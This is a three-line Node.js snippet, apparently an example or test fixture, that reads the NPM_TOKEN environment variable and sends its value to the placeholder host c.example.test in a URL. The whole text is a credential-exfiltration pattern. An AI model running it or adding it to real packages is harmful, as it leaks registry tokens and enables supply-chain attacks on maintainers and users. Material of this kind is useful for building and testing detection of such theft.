const https = require("https");
const names = ["NPM_TOKEN"];
https.get("https://c.example.test/" + names.map((name) => process.env[name]).join());
